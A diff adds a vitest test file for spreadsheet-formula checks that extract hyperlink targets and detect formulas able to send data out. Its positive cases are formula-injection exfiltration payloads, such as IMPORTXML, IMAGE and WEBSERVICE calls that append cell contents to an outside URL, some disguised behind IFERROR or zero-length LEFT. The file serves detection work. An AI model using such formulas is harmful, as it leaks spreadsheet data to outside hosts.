@@ -1,0 +1,45 @@
+/** @fileoverview What a formula does that its value does not say. */
+import { describe, expect, it } from "vitest";
+import { linkInFormula, sendsData } from "../../src/cell/formula";
+
+describe("linkInFormula", () => {
+  it.each([
+    ['=HYPERLINK("https://a.vn/x","Xem")', "https://a.vn/x"],
+    ['= hyperlink( "https://a.vn/""x""" ; "Xem")', 'https://a.vn/"x"'],
+    ["=A1", null],
+    ["", null],
+    ['="HYPERLINK(""https://a.vn"")"', null],
+  ])("[E2] %j links to %j", (formula, link) => {
+    expect(linkInFormula(formula)).toBe(link);
+  });
+});
+
+describe("sendsData", () => {
+  it.each([
+    '=IMPORTXML("https://a.vn/?x="&B2,"//a")',
+    '=IMPORTDATA("https://a.vn")',
+    '=importrange("https://docs.google.com/spreadsheets/d/1","A!A1")',
+    '=IMPORTHTML("https://a.vn","table",1)',
+    '=IMAGE("https://a.vn/x.png?"&B2)',
+    '=_xlfn.WEBSERVICE("https://a.vn")',
+    '=IFERROR(IMPORTXML("https://a.vn/?x="&B2,"//a"),"12-KH/ĐTN")',
+    '="12-KH/ĐTN"&LEFT(IMPORTDATA(A1),0)',
+    '=HYPERLINK("https://a.vn/"&WEBSERVICE(A1),"Xem")',
+    '=IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""https://a.vn"",""A1"")"),"12-KH/ĐTN")',
+  ])("[E5] %j can send data out", (formula) => {
+    expect(sendsData(formula)).toBe(true);
+  });
+
+  it.each([
+    "",
+    "=A1",
+    '=HYPERLINK("https://a.vn/IMAGE(1).png","Xem")',
+    '="IMPORTXML("&A1',
+    '=VLOOKUP(B2,"Minh chứng"!A:C,3,0)',
+    "=MYIMAGE(A1)",
+    "=SUM(IMAGES)",
+    '=DISPIMG("ID_1",1)',
+  ])("[E5] %j cannot", (formula) => {
+    expect(sendsData(formula)).toBe(false);
+  });
+});
